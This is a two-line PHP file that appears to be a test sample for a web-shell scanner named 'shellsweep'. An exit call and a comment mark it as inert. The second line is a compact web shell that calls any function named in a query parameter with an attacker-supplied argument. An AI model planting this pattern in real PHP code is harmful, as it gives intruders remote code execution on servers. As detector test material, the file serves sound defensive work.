<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?=$_GET[p]==_&&$_GET[f]($_GET[c])
